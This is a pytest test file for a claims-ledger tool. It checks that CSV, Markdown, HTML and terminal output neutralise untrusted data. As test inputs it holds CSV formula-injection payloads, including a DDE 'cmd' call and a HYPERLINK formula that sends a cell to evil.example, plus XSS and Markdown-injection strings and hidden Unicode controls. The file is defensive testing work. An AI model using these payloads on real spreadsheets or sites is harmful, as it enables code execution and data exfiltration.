"""Output that other programs act on: CSV opened in a spreadsheet, Markdown posted to GitHub,
text printed on a terminal that cannot show every character. Data is untrusted; none of it
may run as a formula, notify anyone, turn into a control character, or crash the command."""

from __future__ import annotations

import csv
import datetime
import enum
import io
import json
import math
import re
import shutil
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from conftest import Sample, run, run_process
from ledger.git.diff import FieldChange, LedgerDiff, RecordChange, StatusChange
from ledger.git.diff_markdown import diff_markdown
from ledger.publish.markdown_text import COMMENT_LIMIT, cap
from ledger.publish.tables import csv_cell

REPO = Path(__file__).resolve().parents[1]
CLAIM = "claims/cso-torture-complaints.yaml"

# -- CSV: formulas ---------------------------------------------------------------------------

FORMULAS = {
    "attributed_to": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "unit": "=cmd|' /C calc'!A0",
    "note": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "statement": "-2+3+cmd|' /C calc'!A0",
}
"""Each a formula a spreadsheet would run (the note after leading spaces, which some skip)."""


def defused(raw: str) -> str:
    return "'" + raw


def formula_ledger(sample: Sample) -> None:
    """The torture-complaints claim with a formula in four fields, and a negative figure."""
    text = sample.read(CLAIM)
    text = text.replace(
        "statement: The memo says the PGR received more than 10,000 torture complaints in "
        "2012-2016.",
        f"statement: {json.dumps(FORMULAS['statement'])}",
    )
    text = text.replace(
        "    unit: complaints of torture received by the PGR\n",
        f"    unit: {json.dumps(FORMULAS['unit'])}\n    note: {json.dumps(FORMULAS['note'])}\n",
    )
    text += f"attributed_to: {json.dumps(FORMULAS['attributed_to'])}\n"
    text += "figures:\n" if "figures:" not in text else ""
    text = text.replace("figures:\n", "figures:\n  - value: -5\n    unit: net change\n", 1)
    sample.write(CLAIM, text)


CSV_COMMANDS = {
    "list": (["list", "claims", "--format", "csv"], ("attributed_to", "statement")),
    "query": (
        [
            "query",
            "--format",
            "csv",
            "SELECT c.attributed_to, c.statement, f.unit, f.note, f.value FROM claims c "
            "JOIN figures f ON f.claim_id = c.id",
        ],
        ("attributed_to", "statement", "unit", "note"),
    ),
    "figures": (["figures", "--format", "csv"], ("unit", "note")),
    "export-claims": (
        ["export", "--format", "csv", "--kind", "claims"],
        ("attributed_to", "statement"),
    ),
    "export-figures": (["export", "--format", "csv", "--kind", "figures"], ("unit", "note")),
}


def is_formula(cell: str) -> bool:
    """What a spreadsheet would run: a formula start, also after spaces; numbers aside."""
    if re.fullmatch(r"-?\d+(\.\d+)?", cell):
        return False
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip().startswith(
        ("=", "+", "-", "@", "\t", "\r")
    )


@pytest.mark.parametrize("command", sorted(CSV_COMMANDS))
def test_every_csv_output_defuses_formulas_the_same_way(sample_copy: Sample, command: str) -> None:
    formula_ledger(sample_copy)
    args, fields = CSV_COMMANDS[command]
    result = run(["--root", str(sample_copy.root), *args])
    assert result.exit_code == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    for field in fields:
        assert defused(FORMULAS[field]) in cells, (field, cells)
    assert not [cell for cell in cells if is_formula(cell)]
    if "unit" in fields:  # the figure's value: a number is a number, -5 stays -5
        assert "-5" in cells


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (2.5, "2.5"),
        (True, "1"),
        (None, ""),
        ("-5", "'-5"),
        (float("-inf"), "'-inf"),
        ("\t=1", "'\t=1"),
        (" \n=1", "' \n=1"),
        ("a=1", "a=1"),
        ("\x1b[31m", "\\x1b[31m"),
    ],
)
def test_a_cell_is_defused_by_its_type_not_its_look(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


# -- Markdown: mentions and character references ----------------------------------------------

MENTIONS = "Thanks @octocat and @github/security-team, mail ops@example.org"
ENTITIES = "&#x202E;evil &#8238;evil &rarr; &amp;"
HOSTILE_STATEMENT = f"{MENTIONS}; {ENTITIES}"


def rendered_text(markdown: str) -> str:
    """What a reader sees: the Markdown rendered as CommonMark with GFM tables, tags dropped,
    references decoded, code spans left out (GitHub links no mention inside one)."""
    import html

    from markdown_it import MarkdownIt

    page = MarkdownIt("commonmark").enable("table").render(markdown)
    page = re.sub(r"<code>.*?</code>", " ", page, flags=re.DOTALL)
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


def assert_no_mention_and_no_override(markdown: str) -> None:
    seen = rendered_text(markdown)
    assert not re.search(r"(?:^|[^A-Za-z0-9_`])@[A-Za-z0-9]", seen), seen  # GitHub's mention
    assert "\u202e" not in seen
    assert "&#x202E;evil &#8238;evil &rarr; &amp;" in seen  # shown as typed
    assert "@\u200boctocat" in seen and "@\u200bgithub/security-team" in seen


@pytest.fixture
def hostile_repo(tmp_path: Path) -> Sample:
    """The sample ledger committed in a git repository, then a claim's statement made hostile
    in the working tree."""
    from conftest import SAMPLE, git

    root = tmp_path / "repo"
    shutil.copytree(SAMPLE, root)
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "the sample")
    sample = Sample(root)
    sample.edit(
        CLAIM,
        "statement: The memo says the PGR received more than 10,000 torture complaints in "
        "2012-2016.",
        f"statement: {json.dumps(HOSTILE_STATEMENT)}",
    )
    return sample


@pytest.mark.parametrize(
    "args",
    [
        ["diff", "--format", "markdown"],
        ["status", "requirement-2", "--format", "markdown"],
        ["status", "torture-prosecutions", "--format", "markdown"],
        ["export", "--format", "markdown"],
    ],
    ids=["diff", "status-requirement", "status-case", "export"],
)
def test_markdown_notifies_no_one_and_shows_references_as_typed(
    hostile_repo: Sample, args: list[str]
) -> None:
    result = run(["--root", str(hostile_repo.root), *args])
    assert result.exit_code == 0, result.stderr
    assert_no_mention_and_no_override(result.stdout)


# -- Markdown: GitHub's limit on a comment -------------------------------------------------------


def big_diff(rows: int) -> LedgerDiff:
    statuses = tuple(
        StatusChange(f"case-{n:05}", "case", "requirement-1", "T", "met", "not-met", "S4", "S2",
                     (f"claim-{n:05}",))
        for n in range(rows)
    )  # fmt: skip
    records = tuple(
        RecordChange(f"claim-{n:05}", "claim", "changed", "p", (FieldChange("notes", "a", "b"),))
        for n in range(rows)
    )
    return LedgerDiff("origin/main", "HEAD", records, statuses)


def test_a_large_diff_is_cut_to_fit_a_comment_at_a_line_with_a_note() -> None:
    from ledger.git.diff_markdown import STATUS_ROWS, full_report

    assert len(diff_markdown(big_diff(3000), limit=0)) > 65_536
    # a comment lists the first status changes and counts the rest, then is cut
    whole = full_report(big_diff(3000), status_rows=STATUS_ROWS)
    assert f"… and {3000 - STATUS_ROWS:,} more status changes" in whole
    cut = diff_markdown(big_diff(3000))
    assert len(cut) <= COMMENT_LIMIT < 65_536
    body, note = cut.rsplit("\n\n", 1)
    assert whole.startswith(body + "\n")  # whole lines, nothing changed before the cut
    table_rows = [line for line in body.splitlines() if line.startswith("|")]
    assert len(table_rows) > 2 and all(line.endswith("|") for line in table_rows)
    left_out = whole[len(body) + 1 :]
    assert note == (
        f"**Cut short:** {len(left_out):,} more characters ({left_out.count(chr(10)):,} lines) "
        "are not shown, to stay within GitHub's limit on a comment. To see everything, run "
        "`ledger diff origin/main HEAD` in a checkout (`--format markdown --max-chars 0` gives "
        "this report uncut).\n"
    )
    assert rendered_text(cut).count("Cut short") == 1  # after the table, not a row of it


def test_a_table_is_never_left_with_a_header_and_no_rows() -> None:
    text = "# t\n\n" + "x" * 50 + "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    for limit in range(len(text) - 1, 0, -1):
        cut = cap(text, limit, "ask")
        lines = cut.split("\n\n**Cut short:**")[0].splitlines()
        assert lines[-1:] != ["|---|---|"] and lines[-1:] != ["| a | b |"], (limit, cut)


def test_one_huge_field_is_shown_cut_with_what_was_left_out(hostile_repo: Sample) -> None:
    hostile_repo.write(CLAIM, hostile_repo.read(CLAIM) + f"notes: {'word ' * 20_000}\n")
    result = run(["--root", str(hostile_repo.root), "diff", "--format", "markdown"])
    assert result.exit_code == 0, result.stderr
    assert len(result.stdout) <= 4_000
    (notes,) = [line for line in result.stdout.splitlines() if line.startswith("  - `notes`")]
    more = 100_000 - 1 - 1_500  # "word " 20,000 times, folded: one space less at the end
    assert notes == f"  - `notes`: *(none)* → {'word ' * 299}word … *({more:,} more characters)*"
    assert "- changed claim `cso-torture-complaints`" in result.stdout


def test_a_huge_quote_keeps_its_claim_readable_within_one_comment(hostile_repo: Sample) -> None:
    quote = "the PGR received over 10,000 complaints of torture between 2012 and 2016"
    hostile_repo.edit(CLAIM, quote, " ".join([quote] * 2_000))
    result = run(["--root", str(hostile_repo.root), "diff", "--format", "markdown"])
    assert result.exit_code == 0, result.stderr
    assert len(result.stdout) <= 8_000
    assert "- changed claim `cso-torture-complaints`" in result.stdout
    assert "more characters)*" in result.stdout


def test_the_command_line_default_is_the_librarys() -> None:
    from ledger.cli import diff_cmd

    assert diff_cmd.COMMENT_LIMIT == COMMENT_LIMIT


# -- any terminal encoding -------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
@pytest.mark.parametrize(
    "args",
    [
        ["status", "requirement-3"],
        ["status"],
        ["search", "Nochixtlán"],
        ["status", "requirement-3", "--format", "markdown"],
    ],
    ids=["status-requirement", "overview", "search", "markdown"],
)
def test_a_terminal_that_cannot_show_every_character(encoding: str, args: list[str]) -> None:
    """The repository's data has typographic quotes and accents; the output has box lines
    and bars: what the terminal cannot show is replaced, and the command succeeds."""
    done = run_process(args, cwd=REPO, env={"PYTHONIOENCODING": encoding})
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""
    assert "?" in done.stdout  # the typographic quotes, replaced


@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
def test_an_error_on_such_a_terminal_is_one_line(encoding: str) -> None:
    done = run_process(["status", "no-such-record-\u201cx\u201d"], cwd=REPO,
                       env={"PYTHONIOENCODING": encoding})  # fmt: skip
    assert done.returncode == 2
    assert done.stdout == ""
    assert len(done.stderr.splitlines()) == 1, done.stderr
    assert done.stderr.startswith("ledger: ") and "\\u201cx\\u201d" in done.stderr


# -- Markdown: issue references ----------------------------------------------------------------


@pytest.mark.parametrize("reference", ["torvalds/linux#1", "#1", "see #12.", "GH-2", "(gh-7)"])
def test_an_issue_reference_reads_the_same_but_links_nothing(reference: str) -> None:
    from ledger.publish.markdown_text import escape

    seen = rendered_text(escape(reference))
    assert not re.search(r"(?:#|\bGH-)\d", seen, re.IGNORECASE), seen
    assert seen.replace("\u200b", "").strip() == reference


@pytest.mark.parametrize(
    "address",
    [
        "see https://evil.example/login",
        "HTTP://X.EXAMPLE",
        "www.evil.example",
        "mailto:ops@example.org",
        "xmpp:ops@example.org",
        "ftp://files.example",
    ],
)
def test_a_bare_address_reads_the_same_but_links_nothing(address: str) -> None:
    """GitHub links bare addresses (its extended autolinks): a report links only where the
    tool writes a link, never where the data holds an address."""
    from ledger.publish.markdown_text import escape

    escaped = escape(address)
    assert not re.search(r"(?i)\b(?:https?|ftp|mailto|xmpp):|\bwww\.", html_text(escaped))
    assert html_text(escaped).replace("\u200b", "").strip() == address


def html_text(markdown: str) -> str:
    import html

    return html.unescape(markdown).replace("\\", "")


def test_a_commit_hash_and_a_hash_before_a_letter_are_left_as_they_are() -> None:
    from ledger.publish.markdown_text import escape

    assert (
        escape("fixed in 0a1b2c3d4e5f, see C# and a#b") == "fixed in 0a1b2c3d4e5f, see C# and a#b"
    )


# -- invisible and bidirectional characters ------------------------------------------------------

HIDDEN = "\u061c\u00ad\U000e0041"
"""The Arabic letter mark (a bidirectional control), a soft hyphen and a tag character."""


def test_every_format_character_and_the_tag_block_is_escaped_everywhere() -> None:
    import sys
    import unicodedata

    from ledger.publish.markdown_text import escape
    from ledger.safe_text import dumps, is_hidden, visible

    hidden = [
        chr(c)
        for c in range(sys.maxunicode + 1)
        if unicodedata.category(chr(c)) == "Cf" or 0xE0000 <= c <= 0xE007F
    ]
    assert all(is_hidden(c) for c in hidden), [
        f"U+{ord(c):04X}" for c in hidden if not is_hidden(c)
    ]
    for char in hidden:
        shown = f"<U+{ord(char):04X}>"
        assert visible(f"a{char}b") == f"a{shown}b"
        assert csv_cell(f"a{char}b") == f"a{shown}b"
        assert escape(f"a{char}b") == f"a&lt;U+{ord(char):04X}&gt;b"
        assert char not in dumps(f"a{char}b")
        assert json.loads(dumps(f"a{char}b")) == f"a{char}b"  # read back: the same text


def test_a_joiner_inside_an_emoji_sequence_is_kept_and_elsewhere_escaped() -> None:
    from ledger.safe_text import has_hidden, visible

    family, coder, rainbow = "👨\u200d👩\u200d👧", "👩🏽\u200d💻", "🏳\ufe0f\u200d🌈"
    assert visible(f"{family} {coder} {rainbow}") == f"{family} {coder} {rainbow}"
    assert not has_hidden(family)
    assert visible("a\u200db \u200d👩 👩\u200d") == "a<U+200D>b <U+200D>👩 👩<U+200D>"


def test_a_warning_names_the_same_misleading_characters_the_outputs_escape() -> None:
    from ledger.safe_text import MISLEADING, is_hidden

    assert "\u061c" in MISLEADING and "\U000e0041" in MISLEADING
    assert all(is_hidden(c) for c in MISLEADING)


@pytest.mark.parametrize(
    "args",
    [
        ["show", "cso-torture-complaints"],
        ["list", "claims", "--format", "csv"],
        ["diff", "--format", "markdown"],
        ["diff"],
    ],
    ids=["show", "csv", "diff-markdown", "diff"],
)
def test_a_hidden_character_in_a_locator_is_shown_escaped(
    hostile_repo: Sample, args: list[str]
) -> None:
    hostile_repo.edit(
        CLAIM,
        "locator: REQUIREMENT 2, paragraph 1",
        'locator: "REQUIREMENT 2\\u061c\\u00ad\\U000E0041, paragraph 1"',
    )
    result = run(["--root", str(hostile_repo.root), *args], env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.stderr
    assert not any(c in result.stdout for c in HIDDEN), ascii(result.stdout)
    assert "U+061C" in result.stdout and "U+00AD" in result.stdout and "U+E0041" in result.stdout


def test_a_section_heading_is_cut_with_its_first_rows_never_left_alone() -> None:
    whole = diff_markdown(big_diff(5), limit=0)
    for limit in range(len(whole) - 1, 100, -1):
        body = diff_markdown(big_diff(5), limit=limit).split("\n\n**Cut short:**")[0]
        last = body.rstrip("\n").splitlines()[-1:]
        assert not re.fullmatch(r"\*\*[^*].*\*\*", "".join(last)), (limit, body)


@pytest.mark.parametrize("chars", ["5", "999"])
def test_a_max_chars_too_small_for_the_note_is_a_usage_error(
    hostile_repo: Sample, chars: str
) -> None:
    result = run(["--root", str(hostile_repo.root), "diff", "-f", "markdown", "--max-chars", chars])
    assert result.exit_code == 2
    assert "at least 1,000" in result.stderr and "Traceback" not in result.stderr
    ok = run(["--root", str(hostile_repo.root), "diff", "-f", "markdown", "--max-chars", "1000"])
    assert ok.exit_code == 0 and len(ok.stdout) <= 1000


def test_the_command_line_minimum_is_the_librarys() -> None:
    from ledger.cli import diff_cmd
    from ledger.publish.markdown_text import MIN_LIMIT

    assert diff_cmd.MIN_LIMIT == MIN_LIMIT


# -- Markdown: the words a change marks ----------------------------------------------------------

INJECTIONS = [
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "~~struck~~ **bold** `code`",
    "@octocat",
    "#12",
    "<!-- ledger: pull request comment -->",
]


@pytest.mark.parametrize("injection", INJECTIONS)
def test_marked_words_are_shown_as_typed_and_do_nothing(injection: str) -> None:
    from markdown_it import MarkdownIt

    from ledger.git.diff_markdown import words_marked

    marked = words_marked("the PGR received complaints", f"the PGR {injection} received")
    page = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(marked)

    # the markup is the tool's own: one deletion, one insertion, nothing else
    assert re.findall(r"<(\w+)", page) == ["p", "strong", "s"]
    assert "<img" not in page and "href" not in page and "<!--" not in page
    import html

    seen = html.unescape(re.sub(r"<[^>]+>", " ", page))
    assert (
        " ".join(seen.replace("\u200b", "").split()) == f"the PGR {injection} received complaints"
    )
    assert not re.search(r"(?:^|[^A-Za-z0-9_`])@[A-Za-z0-9]", seen)
    assert not re.search(r"#\d", seen)


_TEXT_WITH_HIDDEN = st.text(
    st.one_of(
        st.characters(),  # any code point, lone surrogates included
        st.sampled_from("\x7f\x85\u00ad\u200d\u202e\ufeff\U000e0041áé“”–¿"),
    )
)


@given(st.lists(_TEXT_WITH_HIDDEN, max_size=4))
def test_json_output_escapes_exactly_what_a_whole_search_would(values: list[str]) -> None:
    """The quick test for characters to escape (only the non-ASCII ones are searched) finds
    every one a search of the whole text finds, and the JSON reads back as the data."""
    from ledger.safe_text import _JSON_UNSAFE, _json_escape, dumps

    plain = json.dumps(values, ensure_ascii=False, indent=2)
    assert dumps(values) == _JSON_UNSAFE.sub(_json_escape, plain)
    assert json.loads(dumps(values)) == values


_PADDING = "plain words of a long report\n" * 200  # past the length searched whole


@given(_TEXT_WITH_HIDDEN, _TEXT_WITH_HIDDEN)
def test_a_long_text_is_judged_as_a_search_of_the_whole_would(head: str, tail: str) -> None:
    """Remembered output is tens of megabytes: only its ASCII controls and non-ASCII
    characters are searched, and the verdict is the whole search's, joiners included."""
    from ledger.safe_text import _has_hidden, has_hidden

    text = head + _PADDING + tail
    assert has_hidden(text) == _has_hidden(text)


def test_a_joiner_is_judged_by_its_neighbours_in_the_whole_text() -> None:
    """Taking the ASCII out would make a joiner after a space look like one inside an emoji
    sequence: it is still shown, however long the text."""
    from ledger.safe_text import has_hidden, is_plain_output

    family = "\U0001f468\u200d\U0001f469"
    assert not has_hidden(_PADDING + family) and is_plain_output(_PADDING + family)
    assert has_hidden(_PADDING + "\U0001f468 \u200d\U0001f469")
    assert not is_plain_output(_PADDING + "\U0001f468 \u200d\U0001f469")
    assert not is_plain_output(_PADDING + "\x1b]8;;http://x\x07")
    assert is_plain_output(_PADDING + "\x1b[1;31mred\x1b[0m")


_JSON_LEAF = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),  # NaN and the infinities too: written as Python writes them
    st.sampled_from([1e-07, -2.5e-05, 1e-05, 0.0001, 1e16, 1.5e-300, 0.1]),
    _TEXT_WITH_HIDDEN,
)
_JSON_VALUES = st.recursive(
    _JSON_LEAF,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(_TEXT_WITH_HIDDEN, inner, max_size=4)
    ),
    max_leaves=20,
)


@given(_JSON_VALUES)
def test_indented_json_is_what_the_standard_library_writes(value: object) -> None:
    """Large JSON is encoded by pydantic-core's compiled encoder: the text is the standard
    library's, byte for byte (small floats and lone surrogates go the standard way)."""
    import pydantic_core  # noqa: F401  (loaded, as it is once a command has read records)

    from ledger.safe_text import _JSON_UNSAFE, _json_escape, dumps

    plain = json.dumps(value, ensure_ascii=False, indent=2)
    assert dumps(value) == _JSON_UNSAFE.sub(_json_escape, plain)


def test_the_compiled_encoder_is_used_unless_it_might_differ() -> None:
    import pydantic_core  # noqa: F401

    from ledger.safe_text import _pretty

    assert _pretty({"claims": [{"id": "a", "value": 1.5, "n": 2}]}, 2) is not None
    assert _pretty({"value": 1e-07}, 2) is None  # written 1e-7 there
    assert _pretty({"value": 2e-05}, 2) is None  # written 0.00002 there
    assert _pretty({"text": "pre-1e-7 wording"}, 2) is not None  # text is text
    assert _pretty({1e-07: "a small float key"}, 2) is None
    assert _pretty({"text": "the re-election"}, 2) is not None
    assert _pretty({"text": "\udc80"}, 2) is None  # a lone surrogate: refused there


class _Colour(enum.Enum):
    RED = 1


@pytest.mark.parametrize(
    "value",
    [
        {None: 1},
        {math.nan: 1},
        {math.inf: 1},
        {"a": {-math.inf: [1]}},
        {(1, 2): 3},
        {_Colour.RED: 1},
        {"at": datetime.date(2020, 1, 1)},
        {"seen": {1, 2}},
        [b"bytes"],
        [_Colour.RED],
    ],
)
def test_indented_json_of_other_keys_and_values_is_what_the_standard_library_does(
    value: object,
) -> None:
    """A None, NaN or infinite key is written as the standard library writes it (not as
    "None", "nan" or "inf"), and a value it refuses is refused, whichever encoder runs."""
    import pydantic_core  # noqa: F401  (loaded, as it is once a command has read records)

    from ledger.safe_text import dumps

    try:
        plain = json.dumps(value, ensure_ascii=False, indent=2)
    except TypeError:
        with pytest.raises(TypeError):
            dumps(value)
    else:
        assert dumps(value) == plain


SITE_TEXT = st.text(
    alphabet=st.one_of(
        st.characters(codec="utf-8"),
        st.sampled_from("&<>\"'\n\t\r\x00\x1b\x7f\x85\u200b\u200d\u202e\ufeff\U000e0041\udc80é"),
    ),
    max_size=40,
)


@given(SITE_TEXT)
@example("plain words, and a-b_c.d/e")
@example("each of &, <, >, \" and '")
@example("a tab\t, a newline\n, a return\r, an escape\x1b, a delete\x7f, a C1 control\x85")
@example("zero\u200bwidth, a bidi override\u202e, a tag \U000e0041, a byte \udc80, été")
def test_site_text_is_escaped_as_the_slow_path_escapes_it(text: str) -> None:
    """A site's text skips escaping when there is nothing to escape: the result is always
    exactly what escaping every text gives (controls and invisible characters made visible,
    then the five HTML characters escaped)."""
    import html

    from ledger.publish.site.html import h
    from ledger.safe_text import visible

    assert h(text) == html.escape(visible(text, keep_newlines=True), quote=True)


@pytest.mark.parametrize(
    "char", [*"&<>\"'\t\n\r\x00\x1b\x7f\x85\u00ad\u200b\u202e\ufeff\udc80", "\U000e0041"]
)
def test_each_character_escaping_changes_is_escaped_alone(char: str) -> None:
    import html

    from ledger.publish.site.html import h
    from ledger.safe_text import visible

    for text in (char, f"it{char}s", f"été{char}"):
        assert h(text) == html.escape(visible(text, keep_newlines=True), quote=True)


def test_a_changed_record_whose_path_is_not_utf8_is_linked_by_its_bytes() -> None:
    """A file name git holds as bytes that are not UTF-8 (read with surrogateescape) is
    linked percent-encoded byte by byte, never a traceback."""
    path = "data/claims/bad\udcff\udc80/c.yaml"
    change = RecordChange("c", "claim", "changed", path, (FieldChange("notes", "a", "b"),))
    text = diff_markdown(LedgerDiff("A", "B", (change,), ()), files_url="https://example.org/x")
    assert "(https://example.org/x/data/claims/bad%FF%80/c.yaml)" in text


def test_the_navigation_marks_the_page_shown_in_any_folder() -> None:
    from ledger.publish.site.html import layout

    nav = (("index.html", "Status"), ("edit/new-source.html", "Add a source"))
    marked = layout("edit/new-source.html", "t", "b", nav=nav)
    assert '<a href="new-source.html" aria-current="page">Add a source</a>' in marked
    assert '<a href="../index.html">Status</a>' in marked
    other = layout("edit/other.html", "t", "b", nav=nav)
    assert "aria-current" not in other and '<a href="new-source.html">Add a source</a>' in other
    top = layout("index.html", "t", "b", nav=nav)
    assert '<a href="index.html" aria-current="page">Status</a>' in top
